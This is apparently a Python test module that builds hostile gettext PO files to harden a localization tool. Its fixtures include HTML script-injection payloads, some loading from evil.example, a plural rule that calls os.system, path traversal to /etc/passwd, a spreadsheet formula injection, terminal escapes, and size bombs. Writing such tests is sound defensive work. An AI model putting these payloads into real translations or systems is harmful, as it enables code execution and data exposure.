"""Hostile PO files."""

import struct
from collections.abc import Iterator

from hostile.case import ENTRIES, HEADER, PO, Case, commands

COMMANDS = commands("check", "build", "extract", "diff ../before --html build/review.html")
SENTENCE = "El cuerpo pierde <b1>agua</b1> con el sudor."
DOSE = "Beba 2,5 litros al día.<cite1/>"
LINKED = "Vea <a1>el estudio</a1> para saber más."
TITLE = "Agua en días de calor"


def cases() -> Iterator[Case]:
    """All of them, one at a time: some are large."""
    for name, data in (*_bytes(), *_syntax(), *_joints(), *_headers(), *_sizes()):
        yield Case(f"po/{name}", {PO: data}, COMMANDS)
    for name, sentence in _sentences():
        yield Case(f"po/{name}", {PO: po(SENTENCE, sentence)}, COMMANDS)
    for name, old, new in _replaced():
        yield Case(f"po/{name}", {PO: po(old, new)}, COMMANDS)


def po(old: str = "", new: str = "", header: str = HEADER) -> bytes:
    """The sound file with something replaced."""
    text = header + ENTRIES
    assert old in text
    return text.replace(old, new, 1).encode("utf-8", "surrogatepass") if old else text.encode()


def _bytes() -> Iterator[tuple[str, bytes]]:
    """Other encodings, and bytes that are none."""
    text = HEADER + ENTRIES
    yield "byte-order-mark", b"\xef\xbb\xbf" + text.encode()
    yield "two-byte-order-marks", b"\xef\xbb\xbf" * 2 + text.encode()
    for code in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "utf-7", "cp037", "latin-1"):
        yield f"encoded-as-{code}", text.encode(code)
    yield "overlong-slash", po("sudor", "sud@r").replace(b"@", b"\xc0\xaf")
    yield "five-byte-character", po("sudor", "sud@r").replace(b"@", b"\xf8\x88\x80\x80\x80")
    yield "surrogate-pair-as-bytes", po("sudor", "\ud83d\ude00")
    yield "lone-surrogate-as-bytes", po("sudor", "\udc41")
    yield "cut-in-a-character", text.encode()[: text.encode().rindex("á".encode()) + 1]
    yield "all-bytes", bytes(range(256)) * 40
    yield "an-executable", b"\x7fELF\x02\x01\x01\0" + struct.pack("<100Q", *range(100))
    yield "a-zip", b"PK\x03\x04" + b"\0" * 100
    yield "empty", b""
    yield "white-space-only", b" \t\n" * 1000
    yield "comments-only", b"# nothing\n" * 1000
    yield "carriage-returns-only", text.replace("\n", "\r").encode()
    yield "crlf", text.replace("\n", "\r\n").encode()
    yield "lf-then-cr", text.replace("\n", "\n\r").encode()
    yield "line-separators-for-line-ends", text.replace("\n", "\u2028").encode()
    yield "next-lines-for-line-ends", text.replace("\n", "\x85").encode()
    yield "form-feeds-between-entries", text.replace("\n\n", "\n\f\n").encode()
    yield "end-of-file-sign", text.encode() + b"\x1a"
    yield "no-line-end-at-the-end", text.rstrip().encode()


def _syntax() -> Iterator[tuple[str, bytes]]:
    """Files that other tools and people have damaged."""
    text = HEADER + ENTRIES
    yield (
        "conflict-of-git",
        po(f'msgstr "{SENTENCE}"', f'<<<<<<< HEAD\nmsgstr "A."\n=======\nmsgstr "{SENTENCE}"\n>>>>>>> b'),
    )
    yield "conflict-of-diff3", po('msgid "See', '<<<<<<< a\n||||||| base\n=======\n>>>>>>> b\nmsgid "See')
    yield "half-a-conflict", text.encode() + b">>>>>>> theirs\n"
    yield "conflict-in-a-string", po(SENTENCE, r"<<<<<<< a\n=======\n>>>>>>> b")
    yield "conflict-in-comments", b"# <<<<<<< HEAD\n# =======\n# >>>>>>> b\n" + text.encode()
    yield "marks-of-msgcat", po(SENTENCE, r"#-#-#-#-#  a.po  #-#-#-#-#\nA.\n#-#-#-#-#  b.po  #-#-#-#-#\nB.")
    yield "a-patch", "".join(f"+{line}\n" for line in text.split("\n")).encode()
    yield "quoted-mail", "".join(f"> {line}\n" for line in text.split("\n")).encode()
    yield "obsolete-without-quote", text.encode() + b'\n#~ msgid "Old\n#~ msgstr "Viejo"\n'
    yield "obsolete-without-msgstr", text.encode() + b'\n#~ msgid "Old"\n'
    yield "obsolete-turns-live", text.encode() + b'\n#~ msgid "Old"\nmsgstr "<script>evil()</script>"\n'
    yield "obsolete-with-markup", text.encode() + b'\n#~ msgid "Old"\n#~ msgstr "<script>evil()</script>"\n'
    yield "obsolete-twice", text.encode() + b'\n#~ msgid "Old"\n#~ msgstr "A"\n\n#~ msgid "Old"\n#~ msgstr "B"\n'
    yield "obsolete-twin-of-a-live-one", text.encode() + b'\n#~ msgid "Water on hot days"\n#~ msgstr "<b>evil</b>"\n'
    yield "previous-with-control", po('msgid "See', '#| msgid "a\\033[2Jb"\nmsgid "See')
    yield "previous-without-quote", po('msgid "See', '#| msgid "a\nmsgid "See')
    yield "same-entry-twice", text.encode() + ENTRIES[: ENTRIES.index("\n\n")].encode() + b"\n"
    yield "same-entry-in-escapes", text.encode() + b'\nmsgid "\\127ater on hot days"\nmsgstr "evil"\n'
    yield "context-with-end-of-transmission", po('msgid "See', 'msgctxt "a\\004b"\nmsgid "See')
    yield "context-without-text", po('msgid "See', 'msgctxt ""\nmsgid "See')
    yield "context-of-markup", po('msgid "See', 'msgctxt "<script>evil()</script>"\nmsgid "See')
    yield "context-of-a-million", po('msgid "See', f'msgctxt "{"x" * 1_000_000}"\nmsgid "See')
    yield "end-of-transmission-in-msgid", po("See <a1>", "See\\004 <a1>")
    yield "domain", b'domain "../../evil"\n' + text.encode()
    yield "include", b'#include "/etc/passwd"\n' + text.encode()
    yield "plural-for-a-sentence", po(f'msgstr "{LINKED}"', f'msgid_plural "x"\nmsgstr[0] "{LINKED}"\nmsgstr[1] "x"')
    yield "plural-index-of-a-thousand-digits", po(f'msgstr "{LINKED}"', f'msgid_plural "x"\nmsgstr[{"9" * 1000}] "x"')
    yield "plural-index-in-other-digits", po(f'msgstr "{LINKED}"', 'msgid_plural "x"\nmsgstr[٠] "x"\nmsgstr[١] "x"')
    yield "keyword-in-greek-letters", po('msgid "See', 'msgіd "See')
    yield "no-break-space-behind-keyword", po('msgid "See', 'msgid\u00a0"See')
    yield "curly-quotes", po(f'"{SENTENCE}"', f"“{SENTENCE}”")
    yield "quote-missing", po(f'{DOSE}"', DOSE)
    yield "backslash-at-the-end", po(f'{DOSE}"', f'{DOSE}\\"')
    yield "escape-of-json", po(SENTENCE, r"\u003cscript\u003eevil()")
    yield "escape-of-a-control", po(SENTENCE, r"a\033[2Jb")
    yield "escape-of-a-nul", po(SENTENCE, r"a\0b")
    yield "escape-of-a-bell", po(SENTENCE, r"a\x1b]0;evil\ab")
    yield "escape-of-an-override", po(SENTENCE, r"a\342\200\256b")
    yield "escape-of-half-a-character", po(SENTENCE, r"a\342\200b")
    yield "escape-of-a-surrogate", po(SENTENCE, r"a\355\240\200b")
    yield "escape-of-a-byte-ff", po(SENTENCE, r"a\xffb")
    yield "escape-of-a-script", po(SENTENCE, r"\x3cscript\x3eevil()\x3c/script\x3e")
    yield "escape-too-large", po(SENTENCE, r"a\777b")
    yield "html-page", b"<!DOCTYPE html><script>evil()</script>"
    yield "mo-file", b"\xde\x12\x04\x95" + bytes(24)


def _joints() -> Iterator[tuple[str, bytes]]:
    """Pieces that only together are something, and orders that are none."""
    yield "escapes-of-codes", po(SENTENCE, r"El cuerpo pierde \074b1\076agua\074/b1\076 con el sudor.")
    yield "escapes-of-a-dose", po(DOSE, r"Beba 2\065 litros al día.<cite1/>")
    yield "code-in-two-strings", po(f'"{SENTENCE}"', '"El cuerpo pierde <b"\n"1>agua</"\n"b1> con el sudor."')
    yield "character-in-two-strings", po(f'"{SENTENCE}"', '"Aqu\\303"\n"\\255 <b1>agua</b1>."')
    yield "entries-in-one-line", (HEADER + ENTRIES).encode() + b'msgid "a" msgstr "b" msgid "c" msgstr "d"\n'
    yield "keyword-in-two-lines", po('msgid "See', 'msg\\\nid "See')
    yield "comment-in-an-entry", po(f'msgstr "{LINKED}"', f'# inside\nmsgstr "{LINKED}"')
    yield "msgstr-twice", po(f'msgstr "{LINKED}"', f'msgstr "{LINKED}"\nmsgstr "Evil."')
    yield "previous-of-an-obsolete-one", po('msgid "See', '#~| msgid "x"\nmsgid "See')
    yield "forms-in-another-order", po(f'msgstr "{LINKED}"', 'msgid_plural "x"\nmsgstr[1] "a"\nmsgstr[0] "b"')


def _headers() -> Iterator[tuple[str, bytes]]:
    """Headers that lie, and plural rules that would run."""
    for name, rule in {
        "a-million-forms": "nplurals=1000000; plural=(n != 1);",
        "forms-beyond-integers": f"nplurals={'9' * 400}; plural=0;",
        "negative-forms": "nplurals=-1; plural=0;",
        "forms-in-other-digits": "nplurals=٢; plural=(n != 1);",
        "deep-brackets": f"nplurals=2; plural={'(' * 20_000}n{')' * 20_000};",
        "deep-negation": f"nplurals=2; plural={'!' * 50_000}n;",
        "long-chain": f"nplurals=2; plural={'n==1?0:' * 20_000}1;",
        "nested-chain": f"nplurals=2; plural={'n?' * 5_000}0{':1' * 5_000};",
        "a-program": "nplurals=2; plural=__import__('os').system('touch ../evil');",
        "division-by-zero": "nplurals=2; plural=n/0;",
        "a-huge-number": f"nplurals=2; plural=n%{'9' * 5_000};",
        "a-shift": "nplurals=2; plural=1<<999999999;",
        "no-end": "nplurals=2; plural=(n != 1)",
    }.items():
        yield f"plural-rule-of-{name}", po("nplurals=2; plural=(n != 1);", rule)
    for name, old, new in (
        ("language-that-leads-out", "Language: es", "Language: ../../etc/passwd"),
        ("language-of-markup", "Language: es", "Language: <script>evil()</script>"),
        ("language-with-control", "Language: es", r"Language: e\033[2Js"),
        ("charset-utf-16", "charset=UTF-8", "charset=UTF-16"),
        ("charset-that-is-none", "charset=UTF-8", "charset=evil"),
        ("charset-of-a-program", "charset=UTF-8", "charset=idna"),
        ("charset-twice", "8bit", '8bit\\n"\n"Content-Type: text/plain; charset=ISO-8859-1'),
        ("charset-of-codes", "charset=UTF-8", "charset=unicode_escape"),
        ("field-of-a-megabyte", "8bit", f"8bit\\nX-Evil: {'x' * 1_000_000}"),
        ("field-of-markup", "8bit", "8bit\\nX-Evil: <script>evil()</script>"),
    ):
        yield f"header-{name}", po(old, new)
    yield "header-twice", (HEADER + HEADER + ENTRIES).encode()
    yield "header-at-the-end", (ENTRIES + "\n" + HEADER).encode()
    yield "header-missing", ENTRIES.encode()
    yield "header-fuzzy", b"#, fuzzy\n" + po()
    yield "header-with-context", b'msgctxt "evil"\n' + po()


def _sizes() -> Iterator[tuple[str, bytes]]:
    """Bombs."""
    text = (HEADER + ENTRIES).encode()
    yield "string-of-a-megabyte", po(SENTENCE, "x" * 1_000_000)
    yield "comment-of-ten-megabytes", text + b"# " + b"x" * 10_000_000 + b"\n"
    yield "line-without-end", b"x" * 10_000_000
    yield "too-large", b"#" * (64 * 1024 * 1024 + 1)
    yield "a-million-empty-lines", text + b"\n" * 1_000_000
    yield "empty-strings", po(f'"{SENTENCE}"', '""\n' * 100_000 + f'"{SENTENCE}"')
    yield "quotes-only", b'"' * 50_000
    yield "backslashes-only", po(SENTENCE, "\\" * 100_000)
    yield "a-twenty-thousand-flags", po('msgid "See', f'#, {"x, " * 20_000}y\nmsgid "See')
    yield "a-twenty-thousand-comments", po('msgid "See', "# x\n" * 20_000 + 'msgid "See')
    yield "a-twenty-thousand-places", po('msgid "See', f'#: {"a:1 " * 20_000}\nmsgid "See')
    yield "two-thousand-more-entries", text + b"".join(b'\nmsgid "m%d"\nmsgstr "x"\n' % n for n in range(2_000))
    yield (
        "two-thousand-obsolete-ones",
        text + b"".join(b'\n#~ msgid "m%d"\n#~ msgstr "x"\n' % n for n in range(2_000)),
    )
    yield "a-thousand-faults", text + b'msgid "x\n' * 1_000
    yield "open-angle-storm", po(SENTENCE, "<" * 100_000)
    yield "code-storm", po(SENTENCE, "<b1>" * 5_000)
    yield "nested-codes", po(SENTENCE, "<b1>" * 5_000 + "x" + "</b1>" * 5_000)
    yield "notes-of-ours-by-the-thousand", po('msgid "See', "# locakit: plain x\n" * 5_000 + 'msgid "See')
    yield "notes-behind-a-broken-one", po('msgid "See', f'# locakit: draft x\n{"# a note" * 2_000}\nmsgid "See')
    yield "ampersand-storm", po(SENTENCE, "&" * 100_000)
    yield "reference-storm", po(SENTENCE, "&amp;lt;" * 5_000)
    yield "digit-storm", po(SENTENCE, "1" * 100_000)
    yield "number-storm", po(SENTENCE, "1,2.3 " * 1_000)
    yield "bracket-storm", po(SENTENCE, "[(" * 50_000)
    yield "combining-storm", po(SENTENCE, "e" + "\u0301" * 100_000)
    yield "space-storm", po(SENTENCE, "a" + " " * 100_000 + "b")


def _sentences() -> Iterator[tuple[str, str]]:
    """What a hostile translator writes for a sentence that has one code, `<b1>`."""
    good = "El cuerpo pierde <b1>agua</b1> con el sudor. "
    yield from (
        ("script", good + "<script>evil()</script>"),
        ("script-in-capitals", good + "<SCRIPT SRC=//evil.example></SCRIPT>"),
        ("script-without-end", good + "<script src=//evil.example"),
        ("image-with-handler", good + "<img src=x onerror=evil()>"),
        ("drawing-with-handler", good + "<svg/onload=evil()>"),
        ("frame", good + "<iframe srcdoc='&lt;script>evil()&lt;/script>'></iframe>"),
        ("style", good + "<style>@import url(//evil.example)</style>"),
        ("base", good + "<base href=//evil.example>"),
        ("refresh", good + "<meta http-equiv=refresh content='0;url=//evil.example'>"),
        ("form", good + "<form action=//evil.example><input name=q>"),
        ("comment", good + "<!-- evil --> <!--[if IE]>evil<![endif]-->"),
        ("cdata", good + "<![CDATA[<script>evil()</script>]]>"),
        ("end-of-comment", good + "--><script>evil()</script>"),
        ("processing-instruction", good + "<?xml-stylesheet href='//evil.example'?>"),
        ("end-of-page", good + "</p></main></body></html><script>evil()</script>"),
        ("references-of-markup", good + "&lt;script&gt;evil()&lt;/script&gt;"),
        ("references-twice", good + "&amp;lt;script&amp;gt;evil()"),
        ("references-by-number", good + "&#60;script&#62;evil()&#x3c;/script&#x3E;"),
        ("reference-without-semicolon", good + "&ltscript&gtevil()"),
        ("code-with-attribute", "El cuerpo pierde <b1 onclick=evil()>agua</b1> con el sudor."),
        ("code-in-capitals", "El cuerpo pierde <B1>agua</B1> con el sudor."),
        ("code-with-spaces", "El cuerpo pierde < b1 >agua< / b1 > con el sudor."),
        ("code-lost", "El cuerpo pierde agua con el sudor."),
        ("code-twice", "El cuerpo pierde <b1>agua</b1> con el <b1>sudor</b1>."),
        ("code-not-closed", "El cuerpo pierde <b1>agua con el sudor."),
        ("code-closed-first", "El cuerpo pierde </b1>agua<b1> con el sudor."),
        ("code-of-another-entry", good + "<cite1/>"),
        ("code-with-a-huge-number", good + f"<b{'9' * 1000}>"),
        ("code-in-wide-signs", good + "＜script＞evil()＜/script＞"),
        ("code-split-by-zero-width", good + "<scr\u200bipt>evil()</scr\u200bipt>"),
        ("template", good + "{{ 7*7 }} {% include 'evil' %} {{ config }}"),
        ("link-of-markdown", good + "[evil](javascript:evil)"),
        ("image-of-markdown", good + "![evil](//evil.example/x.png)"),
        ("address-in-angles", good + "<javascript:evil()>"),
        ("emphasis-of-markdown", good + "**evil** `evil` _evil_ ~~evil~~"),
        ("heading-of-markdown", good + r"\n# evil\n\n- evil\n\n    evil"),
        ("rule-of-front-matter", good + r"\n---\nevil: true\n---"),
        ("attribute-breakout", good + r"\" onmouseover=\"evil() ' onfocus='evil()"),
        ("override", good + "\u202eevil\u202c"),
        ("embedding", good + "\u202bevil\u202c"),
        ("isolate-not-closed", good + "\u2067evil"),
        ("isolate-closed", good + "\u2067evil\u2069"),
        ("marks-of-direction", good + "\u200eevil\u200f\u061c"),
        ("raw-escape", good + "\x1b[2Jevil"),
        ("raw-nul", good + "\0evil"),
        ("raw-c1", good + "\x9b2Jevil"),
        ("raw-delete", good + "\x7fevil"),
        ("raw-carriage-return", good + "\rEvil"),
        ("line-separator", good + "\u2028evil\u2029"),
        ("tag-characters", good + "".join(chr(0xE0000 + ord(letter)) for letter in "evil")),
        ("private-use", good + "\ue000evil\U000f0000"),
        ("noncharacters", good + "\ufffeevil\uffff\U0010ffff"),
        ("byte-order-mark-inside", good + "\ufeffevil"),
        ("soft-hyphens", good + "\u00ade\u00advil"),
        ("letters-of-another-script", "El cuerpo pierde <b1>аgua</b1> con el sudor."),
        ("decomposed", "El cuerpo pierde <b1>agua</b1> con el sudo\u0301r."),
        ("joined-in-the-middle", "El cuerpo <joined/> pierde <b1>agua</b1> con el sudor."),
        ("joined-twice", "<joined/><joined/>"),
        ("joined-in-capitals", "<JOINED/>"),
        ("formula", "=cmd|'/c evil'!A1 <b1>agua</b1>"),
        ("only-the-code", "<b1></b1>"),
        ("only-space", r" \n\t "),
    )


def _replaced() -> Iterator[tuple[str, str, str]]:
    """Damage elsewhere."""
    yield from (
        ("title-breakout", TITLE, "</title><script>evil()</script>"),
        ("title-of-quotes", TITLE, r"\"><script>evil()</script>"),
        ("title-empty-but-for-space", TITLE, " "),
        ("link-with-another-address", LINKED, "Vea <a1 href='javascript:evil()'>el estudio</a1>."),
        ("link-twice", LINKED, "Vea <a1>el</a1> <a1>estudio</a1>."),
        ("link-nested-in-itself", LINKED, "Vea <a1>el <a1>estudio</a1></a1>."),
        ("dose-tenfold", DOSE, "Beba 25 litros al día.<cite1/>"),
        ("dose-in-other-digits", DOSE, "Beba ٢٫٥ litros al día.<cite1/>"),
        ("dose-split-by-zero-width", DOSE, "Beba 2\u200b,5 litros al día.<cite1/>"),
        ("citation-lost", DOSE, "Beba 2,5 litros al día."),
        ("citation-twice", DOSE, DOSE + "<cite1/>"),
        ("citation-of-nobody", DOSE, "Beba 2,5 litros al día.<cite9/>"),
        ("citation-as-text", DOSE, "Beba 2,5 litros al día.[^1]"),
        ("note-of-another-tool", "#. title", "# locakit: draft ../../evil s=zz t=<script>"),
        ("note-that-ignores-markup", "#. title", "# locakit: ignore codes markup\n#. title"),
        ("note-with-control", "#. title", "# locakit: plain a\\033[2J\n#. title"),
        ("place-that-leads-out", "#: source/water.md", "#: ../../../../etc/passwd:1 file:///etc/passwd"),
        ("flag-of-markup", "#. title", "#, fuzzy, <script>evil()</script>, no-wrap, range:0..99999999999999999999"),
        ("comment-of-markup", "#. title", "#. <script>evil()</script>"),
    )
